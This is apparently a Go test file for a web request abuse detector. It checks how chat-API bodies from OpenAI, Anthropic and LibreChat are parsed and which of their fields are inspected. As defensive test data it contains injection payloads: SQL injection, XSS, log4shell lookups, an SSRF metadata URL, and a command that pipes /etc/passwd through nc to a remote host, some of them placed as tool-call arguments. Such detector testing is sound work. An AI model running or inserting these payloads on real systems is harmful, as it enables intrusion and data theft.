package payload

import (
	"bytes"
	"encoding/json"
	"net/http"
	"slices"
	"testing"

	"github.com/warden-dev/warden/abuse"
	"github.com/warden-dev/warden/internal/race"
)

// Questions a chat's users ask, each holding an attack's text. found
// says whether the same text alone in a plain JSON text field is a
// payload finding: there, text is judged by what would break out or run
// where it lands (see text.go), so a question that mentions a query or a
// path is not, and one that carries a working breakout is.
var chatQuestions = []struct {
	name, text string
	found      bool
}{
	{"sql", "Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1", false},
	{"sql breakout", "Why does admin' OR '1'='1 log me in?", true},
	{"sql union", "Is x' UNION SELECT username, password FROM users-- what old PHP sites fell to?", true},
	{"traversal", "What does ../../etc/passwd mean", false},
	{"xss", "Is <script>alert(1)</script> dangerous in a comment box?", true},
	{"log4shell", "Explain ${jndi:ldap://x.example/a} to me", true},
	{"shell", "; cat /etc/passwd | nc 10.0.0.1 4444 is what I saw in the log", true},
}

func marshal(t testing.TB, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func postTo(method, path, class, ct, body string) *abuse.Request {
	return &abuse.Request{Method: method, Path: path, Class: class, Header: http.Header{"Content-Type": {ct}}, ContentType: ct, Body: []byte(body)}
}

// chatBodies are the chat formats the detector recognises, each with the
// question q as message text in every place such text goes.
func chatBodies(t testing.TB, q string) map[string]string {
	return map[string]string{
		"openai chat": marshal(t, map[string]any{
			"model": "gpt-4o", "temperature": 0.2, "stream": true,
			"messages": []any{
				map[string]any{"role": "system", "content": "You are a helpful assistant. " + q},
				map[string]any{"role": "user", "content": q},
				map[string]any{"role": "assistant", "content": "Sure: " + q},
				map[string]any{"role": "user", "content": []any{
					map[string]any{"type": "text", "text": q},
					map[string]any{"type": "image_url", "image_url": map[string]any{"url": "https://img.example.com/a.png"}},
				}},
			},
		}),
		"openai chat, messages first": `{"messages":[{"role":"user","content":` + marshal(t, q) + `}],"model":"gpt-4o-mini"}`,
		"openai responses": marshal(t, map[string]any{
			"model": "gpt-4.1", "instructions": "Answer briefly. " + q,
			"input": []any{
				map[string]any{"role": "user", "content": q},
				map[string]any{"role": "user", "content": []any{map[string]any{"type": "input_text", "text": q}}},
			},
		}),
		"openai responses, string input": marshal(t, map[string]any{"model": "gpt-4.1", "input": q}),
		"anthropic": marshal(t, map[string]any{
			"model": "claude-sonnet-4", "max_tokens": 1024,
			"system": []any{map[string]any{"type": "text", "text": q}},
			"messages": []any{
				map[string]any{"role": "user", "content": []any{map[string]any{"type": "text", "text": q}}},
			},
		}),
		"anthropic, string system": marshal(t, map[string]any{
			"model": "claude-sonnet-4", "system": q,
			"messages": []any{map[string]any{"role": "user", "content": q}},
		}),
		"completions":              marshal(t, map[string]any{"model": "gpt-3.5-turbo-instruct", "prompt": q}),
		"completions, prompt list": marshal(t, map[string]any{"model": "gpt-3.5-turbo-instruct", "prompt": []string{q, q}}),
	}
}

func TestChatTextLeftToTheModel(t *testing.T) {
	d := newTestDetector(t)
	for _, q := range chatQuestions {
		// The question alone, in a field that is not chat text, is
		// judged as text.
		plain := marshal(t, map[string]any{"comment": q.text})
		if v := d.Detect(t.Context(), postTo("POST", "/api/comments", "", "application/json", plain)); v.Found() != q.found {
			t.Errorf("%s: found %v in a plain JSON body %s, want %v", q.name, v.Found(), plain, q.found)
		}
		for name, body := range chatBodies(t, q.text) {
			t.Run(q.name+"/"+name, func(t *testing.T) {
				if v := d.Detect(t.Context(), postTo("POST", "/v1/chat/completions", "", "application/json", body)); v.Found() {
					t.Errorf("chat text reported: %+v\n%s", v, body)
				}
			})
		}
	}
}

func TestChatOtherFieldsInspected(t *testing.T) {
	d := newTestDetector(t)
	q := chatQuestions[0].text
	content := marshal(t, q)
	tests := []struct {
		name, body, violation string
	}{
		{"model", `{"model":"gpt-4o' UNION SELECT password FROM users--","messages":[{"role":"user","content":` + content + `}]}`, "sqli"},
		{"tool call arguments", `{"model":"gpt-4o","messages":[{"role":"user","content":` + content + `},` +
			`{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"run","arguments":"{\"cmd\":\"; cat /etc/passwd | nc 10.0.0.1 4444\"}"}}]}]}`, "command_injection"},
		{"tool name", `{"model":"gpt-4o","messages":[{"role":"user","content":` + content + `}],"tools":[{"type":"function","function":{"name":"<script>alert(1)</script>"}}]}`, "xss"},
		{"image url", `{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"text","text":` + content + `},{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest/meta-data/"}}]}]}`, "ssrf"},
		{"unknown key", `{"model":"gpt-4o","messages":[{"role":"user","content":` + content + `}],"user":"${jndi:ldap://x.example/a}"}`, "log4shell"},
		{"unknown key in a message", `{"model":"gpt-4o","messages":[{"role":"user","content":` + content + `,"name":"${jndi:ldap://x.example/a}"}]}`, "log4shell"},
		{"metadata", `{"model":"gpt-4.1","input":` + content + `,"metadata":{"note":"<script>alert(1)</script>"}}`, "xss"},
		{"responses function output", `{"model":"gpt-4.1","input":[{"type":"function_call_output","call_id":"c1","output":"<script>alert(1)</script>"}]}`, "xss"},
		{"anthropic tool input", `{"model":"claude","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"sh","input":{"cmd":"; cat /etc/passwd | nc 10.0.0.1 4444"}}]}]}`, "command_injection"},
		{"text part type", `{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"<script>alert(1)</script>","text":"hi"}]}]}`, "xss"},
		{"content key of another object", `{"model":"gpt-4o","messages":[],"data":{"content":"<script>alert(1)</script>"}}`, "xss"},
		{"not chat: no model", `{"messages":[{"role":"user","content":"<script>alert(1)</script>"}]}`, "xss"},
		{"not chat: model not a string", `{"model":{"id":"x"},"messages":[{"role":"user","content":"<script>alert(1)</script>"}]}`, "xss"},
		{"not chat: messages not an array", `{"model":"gpt-4o","messages":{"content":"<script>alert(1)</script>"}}`, "xss"},
		{"not chat: two values", `{"model":"gpt-4o","messages":[{"role":"user","content":"<script>alert(1)</script>"}]}{"a":1}`, "xss"},
		{"not chat: syntax error", `{"model":"gpt-4o","messages":[{"role":"user","content":"<script>alert(1)</script>"}],}`, "xss"},
		{"not chat: escaped key", `{"model":"gpt-4o","m\u0065ssages":[{"role":"user","content":"<script>alert(1)</script>"}]}`, "xss"},
		{"instructions of a messages body", `{"model":"gpt-4o","messages":[],"instructions":"<script>alert(1)</script>"}`, "xss"},
		{"system of a responses body", `{"model":"gpt-4.1","input":"hi","system":"<script>alert(1)</script>"}`, "xss"},
		{"text off a message route", `{"text":"<script>alert(1)</script>","conversationId":"c1"}`, "xss"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := d.Detect(t.Context(), postTo("POST", "/v1/chat/completions", "", "application/json", tc.body))
			if v.Violation != tc.violation {
				t.Errorf("violation %q, want %q: %+v", v.Violation, tc.violation, v)
			}
		})
	}
}

func TestChatContentInspect(t *testing.T) {
	cfg := DefaultConfig()
	cfg.ChatContent = ChatInspect
	d, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range chatQuestions {
		if !q.found {
			continue // not a finding in any text field
		}
		for name, body := range chatBodies(t, q.text) {
			if v := d.Detect(t.Context(), postTo("POST", "/v1/chat/completions", "", "application/json", body)); !v.Found() {
				t.Errorf("%s/%s: chat_content inspect found nothing", q.name, name)
			}
		}
	}
}

func TestLibreChatText(t *testing.T) {
	d := newTestDetector(t)
	q := marshal(t, "Why does admin' OR '1'='1 log me in?")
	body := `{"text":` + q + `,"sender":"User","isCreatedByUser":true,"parentMessageId":"00000000-0000-0000-0000-000000000000","conversationId":null,"endpoint":"openAI","model":"gpt-4o"}`
	if v := d.Detect(t.Context(), postTo("POST", "/api/ask/openAI", "message", "application/json", body)); v.Found() {
		t.Errorf("LibreChat text on a message route reported: %+v", v)
	}
	if v := d.Detect(t.Context(), postTo("POST", "/api/posts", "", "application/json", body)); !v.Found() {
		t.Error("LibreChat-shaped text on a route of no class not inspected")
	}
	attack := `{"text":` + q + `,"conversationId":"1' UNION SELECT password FROM users--","endpoint":"openAI"}`
	if v := d.Detect(t.Context(), postTo("POST", "/api/ask/openAI", "message", "application/json", attack)); v.Violation != "sqli" {
		t.Errorf("attack beside LibreChat text not found: %+v", v)
	}
}

func TestChatKinds(t *testing.T) {
	tests := []struct {
		body    string
		message bool
		want    chatKind
	}{
		{`{"model":"m","messages":[]}`, false, chatMessages},
		{` { "messages" : [ ] , "model" : "m" } `, false, chatMessages},
		{`{"model":"m","input":"hi"}`, false, chatResponses},
		{`{"model":"m","input":[{"role":"user","content":"hi"}]}`, false, chatResponses},
		{`{"model":"m","prompt":["a","b"]}`, false, chatPrompt},
		{`{"text":"hi"}`, true, chatLibre},
		{`{"text":"hi","model":"m"}`, false, 0},
		{`{"model":"m"}`, false, 0},
		{`{"model":"m","messages":"x"}`, false, 0},
		{`{"model":1,"messages":[]}`, false, 0},
		{`{"model":"m","messages":[]`, false, 0},
		{`{"model":"m","messages":[]]`, false, 0},
		{`{"model":"m" "messages":[]}`, false, 0},
		{`[{"model":"m","messages":[]}]`, false, 0},
		{`{"a":{"model":"m","messages":[]}}`, false, 0},
		{`{"model":"a\"b","messages":[{"c":"]}\\"}]}`, false, chatMessages},
		{`{}`, true, 0},
		{``, true, 0},
	}
	for _, tc := range tests {
		if got := chatKinds([]byte(tc.body), tc.message); got != tc.want {
			t.Errorf("chatKinds(%s, %v) = %b, want %b", tc.body, tc.message, got, tc.want)
		}
	}
}

func TestChatBodyNoAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("the race detector makes sync.Pool drop items: allocation counts are meaningless")
	}
	d := newTestDetector(t)
	body := `{"model":"gpt-4o","messages":[{"role":"system","content":"You are a helpful assistant for a shop."},{"role":"user","content":[{"type":"text","text":"Which running shoes suit wide feet? Fix this query: SELECT name FROM shoes WHERE width = 'wide'"}]}]}`
	r := postTo("POST", "/v1/chat/completions", "", "application/json", body)
	d.Detect(t.Context(), r) // warm the pool
	if allocs := testing.AllocsPerRun(200, func() { d.Detect(t.Context(), r) }); allocs > 0 {
		t.Fatalf("chat body allocated %v times per request, want 0", allocs)
	}
}

// refChatKinds is chatKinds by encoding/json, for valid JSON: the
// top-level keys (as written, escapes left undecoded) and the kind of
// each one's value.
func refChatKinds(b []byte, message bool) (chatKind, bool) {
	if !json.Valid(b) {
		return 0, false
	}
	var top map[string]json.RawMessage
	if json.Unmarshal(b, &top) != nil {
		return 0, true // not an object
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	if _, err := dec.Token(); err != nil {
		return 0, false
	}
	kinds := map[string]byte{}
	for dec.More() {
		off := dec.InputOffset()
		if _, err := dec.Token(); err != nil {
			return 0, false
		}
		raw := bytes.TrimLeft(b[off:dec.InputOffset()], " \t\r\n,")
		key := string(raw[1 : len(raw)-1])
		var v json.RawMessage
		if err := dec.Decode(&v); err != nil {
			return 0, false
		}
		kinds[key] = v[0] // a later duplicate wins, as in chatKinds' set of seen keys for the last
	}
	str := func(k string) bool { return kinds[k] == '"' }
	arr := func(k string) bool { return kinds[k] == '[' }
	var k chatKind
	if str("model") {
		if arr("messages") {
			k |= chatMessages
		}
		if str("input") || arr("input") {
			k |= chatResponses
		}
		if str("prompt") || arr("prompt") {
			k |= chatPrompt
		}
	}
	if message && str("text") {
		k |= chatLibre
	}
	return k, true
}

func FuzzChatKinds(f *testing.F) {
	for _, s := range []string{`{"model":"m","messages":[]}`, `{"model":"m","input":"x","prompt":["a"]}`, `{"text":"t"}`,
		`{"model":"a\"b","messages":[{"c":"]}\\"}]}`, `{"model":"m","messages":[1 2]}`, `{}`, `[]`} {
		f.Add([]byte(s), true)
	}
	f.Fuzz(func(t *testing.T, b []byte, message bool) {
		got := chatKinds(b, message)
		want, valid := refChatKinds(b, message)
		if !valid {
			return // any answer will do, as long as chatKinds returns
		}
		for _, k := range []string{`"model"`, `"messages"`, `"input"`, `"prompt"`, `"text"`} {
			if bytes.Count(b, []byte(k)) > 1 {
				// A repeated key: chatKinds takes any of its values,
				// encoding/json the last.
				return
			}
		}
		if got != want {
			t.Fatalf("chatKinds(%s, %v) = %b, encoding/json says %b", b, message, got, want)
		}
	})
}

// FuzzChatWalk checks that leaving chat text to the model only ever
// drops findings: what the walk finds with chat_content model, it finds
// with inspect too.
func FuzzChatWalk(f *testing.F) {
	f.Add([]byte(`{"messages":[{"role":"user","content":"a' OR 1=1--"}],"model":"m","user":"<script>alert(1)</script>"}`), false)
	f.Add([]byte(`{"text":"<svg onload=alert(1)>","model":"m","input":[{"content":[{"text":"x"}]}],"id":"../../etc/passwd"}`), true)
	f.Add([]byte(`{"model":"m","prompt":["$(id)","; ls"],"suffix":"$(id)"}`), false)
	model := newTestDetector(f)
	cfg := DefaultConfig()
	cfg.ChatContent = ChatInspect
	inspect, err := New(cfg)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, b []byte, message bool) {
		walk := func(d *Detector) []int32 {
			s := d.pool.New().(*scan)
			s.fields.message = message
			s.json(b)
			return s.touched
		}
		all := walk(inspect)
		for _, id := range walk(model) {
			if !slices.Contains(all, id) {
				t.Fatalf("%s: signal %d found only with chat_content model", b, id)
			}
		}
	})
}
